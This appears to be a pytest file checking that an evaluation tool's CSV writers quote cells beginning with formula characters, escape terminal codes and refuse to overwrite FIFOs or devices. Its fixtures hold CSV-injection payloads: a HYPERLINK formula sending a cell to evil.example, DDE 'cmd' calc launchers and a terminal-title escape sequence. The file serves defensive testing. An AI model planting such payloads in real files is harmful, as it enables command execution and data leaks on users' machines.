"""Every CSV the tool writes is safe to open in a spreadsheet, and to print.

6. Item ids, answers and names are strangers' text (the app is a public Space): a cell that
   begins with =, +, -, @, tab or CR is a live formula in Excel or LibreOffice. Every CSV
   writer (CLI export, compare and report; the app's /export, /compare_export and SQL
   download) quotes such text cells (OWASP's rule), while numbers, even negative ones, stay
   numbers and Parquet keeps the raw value.
7. `export --force` never replaces a device or a FIFO with a file.
8. `compare --format csv` escapes terminal codes in item ids, as the text and JSON formats do.
"""

from __future__ import annotations

import csv
import io
import os
import stat
from pathlib import Path

import pandas as pd
import pytest

from engine.__main__ import main
from engine.prompting.prompts import METADATA_TYPES, PromptConfig
from engine.types import Citation, Document, Generation, Item, RunSpec
from store.csv_safe import csv_cell, csv_frame
from store.run_store import RunStore

HYPERLINK = '=HYPERLINK("http://evil.example/?"&B2,"open")'
DDE = "+1+cmd|' /C calc'!A0"
AT = "@SUM(1+1)"
MINUS = "-2+3+cmd|' /C calc'!A0"
TAB = "\t=1+1"
CR = "\r=1+1"
ESCAPE = "\x1b]0;owned\x07q-esc"  # sets the terminal's title, then a plain id
HOSTILE = (HYPERLINK, DDE, AT, MINUS, TAB, CR)
# A tab or a line break starts a cell or row for some readers: the formula after it is quoted too.
QUOTED = {TAB: "'\t'=1+1", CR: "'\n'=1+1"}
IDS = (*HOSTILE, ESCAPE, "plain")
MODEL = "=cmd|' /C calc'!A0"


def _items() -> list[Item]:
    return [Item(i, f"question {n}", ("yes",), (Document(f"d{n}-1", "yes it is", True, "t"),
                                                 Document(f"d{n}-2", "no", False, "t")))
            for n, i in enumerate(IDS)]


def _generation(item: Item, cites: int) -> Generation:
    shown = item.documents
    answer = f"=1+1 yes [{cites}]"
    citations = (Citation(0, cites, shown[cites - 1].id, shown[cites - 1].relevant, 0.5),)
    return Generation(item.id, "prompt", answer, tuple(d.id for d in shown), "stop", 10, (), citations)


@pytest.fixture(scope="module")
def db(tmp_path_factory) -> Path:
    path = tmp_path_factory.mktemp("csv") / "runs.duckdb"
    store = RunStore(path)
    items = _items()
    store.put_items("sha", items)
    for mode, cites in (("vanilla", 2), ("base", 2), ("cf", 1)):  # CAB -100
        meta = METADATA_TYPES["gender"]
        spec = RunSpec(f"r-{mode}", "exp", f"h-{mode}", MODEL, None, "none", "float32", "cpu", "data.jsonl", "sha",
                       "gender", mode, 0, "v1", None, {}, {"prompt": PromptConfig(mode=mode, metadata=meta).to_dict()},
                       len(items))
        store.start_run(spec)
        store.write_batch(f"r-{mode}", [_generation(it, cites) for it in items])
        store.finish_run(f"r-{mode}", "complete")
    return path


def _cells(text: str) -> list[str]:
    return [c for row in csv.reader(io.StringIO(text, newline="")) for c in row]


def _file_cells(path: Path) -> list[str]:
    """A file's cells, read as a spreadsheet would: a bare CR ends a row."""
    with open(path, newline="") as f:
        return [c for row in csv.reader(f) for c in row]


def _assert_no_formula(cells: list[str]) -> None:
    # No cell starts a formula, and no CR is left to split a row in a reader that ends rows there.
    assert not [c for c in cells if "\r" in c]
    live = [c for c in cells if c.startswith(("=", "+", "@", "\t", "\r")) or
            (c.startswith("-") and c != "-" and not _is_number(c))]
    assert not live, live


def _is_number(text: str) -> bool:
    try:
        float(text)
    except ValueError:
        return False
    return text.strip() == text


# ---------------------------------------------------------------- the rule


@pytest.mark.parametrize("value", HOSTILE)
def test_a_cell_that_starts_a_formula_is_quoted(value):
    assert csv_cell(value) == QUOTED.get(value, "'" + value)


@pytest.mark.parametrize(("value", "expected"), [
    ("x;=1+1", "x;'=1+1"),  # a semicolon-locale spreadsheet splits here
    ("x\n=HYPERLINK(\"http://evil.example\")", "x\n'=HYPERLINK(\"http://evil.example\")"),
    ("x\r\n+1+cmd", "x\n'+1+cmd"),
    ("a; @SUM(1+1)", "a; '@SUM(1+1)"),  # spaces that an import may trim
    ("a,-2+3", "a,'-2+3"), ("a|=1", "a|'=1"), ("=1;=2", "'=1;'=2"),
    ("a;-3.5", "a;-3.5"), ("a; -", "a; -"), ("plain; text, well-known", "plain; text, well-known"),
])
def test_a_formula_after_a_separator_or_line_break_is_quoted(value, expected):
    assert csv_cell(value) == expected


def test_a_semicolon_locale_reading_the_sql_download_sees_no_formula_in_cells_or_header(db):
    from demo.handlers.sql import run_sql

    outcome = run_sql(db, "SELECT 'x;=1+1' AS a, 'y\n@SUM(1)' AS \"=HYPERLINK(\"\"http://evil.example\"\")\", "
                          "-1 AS \"-2+3\", 2 AS \"-4\"")
    text = outcome.csv_path.read_text(encoding="utf-8")
    for delimiter in (",", ";"):
        cells = [c.strip() for row in csv.reader(io.StringIO(text, newline=""), delimiter=delimiter) for c in row]
        cells += [part.strip() for c in cells for part in c.splitlines()]
        assert not [c for c in cells if c.startswith(("=", "+", "@", "-")) and c not in ("-1", "-4")], cells
    header = next(csv.reader(io.StringIO(text, newline="")))
    assert header == ["a", '\'=HYPERLINK("http://evil.example")', "'-2+3", "-4"]


def test_a_carriage_return_cannot_forge_a_row():
    # pandas and csv.writer leave a bare CR unquoted: a reader ending rows at CR saw "=1+1".
    frame = pd.DataFrame({"item_id": ["x\r=1+1", "y\r\nz"], "n": [1, 2]})
    text = csv_frame(frame).to_csv(index=False)
    assert list(csv.reader(io.StringIO(text, newline=""))) == [["item_id", "n"], ["x\n'=1+1", "1"], ["y\nz", "2"]]


@pytest.mark.parametrize("value", ["-3.2", "+1.5", "-1e-05", "3", "-", "plain", "a=b", "", None, -3.2, 7])
def test_numbers_and_plain_text_are_kept(value):
    assert csv_cell(value) == value


def test_a_negative_number_in_a_numeric_column_stays_a_number():
    frame = pd.DataFrame({"item_id": [AT, "-3.2"], "diff": [-3.2, 1.0]})
    back = pd.read_csv(io.StringIO(csv_frame(frame).to_csv(index=False)))
    assert back["diff"].tolist() == [-3.2, 1.0] and back["item_id"].tolist() == ["'" + AT, "-3.2"]


# ---------------------------------------------------------------- every writer


def test_cli_export_csv_quotes_formulas_and_parquet_keeps_them(db, tmp_path, capsys):
    out = tmp_path / "x.csv"
    assert main(["export", "--experiment", "exp", "--out", str(out), "--db", str(db)]) == 0
    got = pd.read_csv(out, keep_default_na=False)
    assert set(got["item_id"]) >= {QUOTED.get(v, "'" + v) for v in HOSTILE}
    assert set(got["answer"]) == {"'=1+1 yes [1]", "'=1+1 yes [2]"} and set(got["model"]) == {"'" + MODEL}
    assert got["precision"].dtype.kind == "f"
    _assert_no_formula(_file_cells(out))
    pq = tmp_path / "x.parquet"
    assert main(["export", "--experiment", "exp", "--out", str(pq), "--db", str(db)]) == 0
    assert set(pd.read_parquet(pq)["item_id"]) == set(IDS)  # raw in Parquet
    decisions = tmp_path / "d.csv"
    assert main(["export", "--experiment", "exp", "--rows", "decisions", "--out", str(decisions), "--db", str(db)]) == 0
    _assert_no_formula(_file_cells(decisions))


def test_cli_compare_csv_quotes_formulas_and_escapes_terminal_codes(db, capsys):
    assert main(["compare", "r-cf", "r-base", "--db", str(db), "--format", "csv", "--metric", "precision"]) == 0
    out = capsys.readouterr().out
    assert "\x1b" not in out and "\x07" not in out and "\\x1b]0;owned\\x07q-esc" in out
    rows = list(csv.DictReader(io.StringIO(out)))
    assert {r["item_id"] for r in rows} >= {"'" + v for v in (HYPERLINK, DDE, AT, MINUS)}
    assert {r["precision_diff"] for r in rows} == {"-100.0"}  # a negative number, not quoted
    _assert_no_formula(_cells(out))


def test_cli_report_csv_quotes_stored_names_and_keeps_its_numbers(db, capsys):
    assert main(["report", "--db", str(db), "--format", "csv"]) == 0
    out = capsys.readouterr().out
    _assert_no_formula([c for c in _cells(out) if not c.endswith("*")])
    assert f"'{MODEL}" in _cells(out)
    # Table 2's CAB cell is ours, a negative number with its star, never quoted.
    assert "-100.0*" in _cells(out) and not any(c.startswith("'-100") for c in _cells(out))


def test_app_exports_and_sql_download_quote_formulas(db):
    from demo.handlers import compare as h
    from demo.handlers.runs import export_file
    from demo.handlers.sql import run_sql

    path = h.export_items(db, "r-base", "r-cf", ["precision"], None, False, "csv")
    _assert_no_formula(_file_cells(path))
    assert "'" + HYPERLINK in _file_cells(path)
    assert set(pd.read_parquet(h.export_items(db, "r-base", "r-cf", ["precision"], None, False, "parquet"))
               ["item_id"]) == set(IDS)
    path = export_file(db, ["exp"], None, "csv")
    _assert_no_formula(_file_cells(path))
    outcome = run_sql(db, "SELECT item_id, -1.5 AS x FROM items")
    cells = _file_cells(outcome.csv_path)
    _assert_no_formula(cells)
    assert "'" + DDE in cells and "-1.5" in cells


# ---------------------------------------------------------------- item 7: devices and FIFOs


@pytest.mark.parametrize("force", [False, True])
def test_export_refuses_a_fifo_with_or_without_force(db, tmp_path, capsys, force):
    fifo = tmp_path / "pipe.csv"
    os.mkfifo(fifo)
    argv = ["export", "--experiment", "exp", "--out", str(fifo), "--db", str(db)] + (["--force"] if force else [])
    assert main(argv) == 2
    err = capsys.readouterr().err
    assert "not a regular file" in err and err.count("\n") == 1 and "Traceback" not in err
    assert stat.S_ISFIFO(os.lstat(fifo).st_mode) and os.listdir(tmp_path) == ["pipe.csv"]


@pytest.mark.skipif(not os.path.exists("/dev/full"), reason="no /dev/full here")
def test_export_force_to_a_device_is_refused(db, tmp_path, capsys):
    # Through a link in our own folder: were the refusal ever lost, the rename would replace the
    # link, never the device itself (these tests may run as root).
    device = tmp_path / "full.csv"
    device.symlink_to("/dev/full")
    assert main(["export", "--experiment", "exp", "--out", str(device), "--force", "--db", str(db)]) == 2
    err = capsys.readouterr().err
    assert "not a regular file" in err and err.count("\n") == 1 and "Traceback" not in err
    assert device.is_symlink() and stat.S_ISCHR(os.stat(device).st_mode)
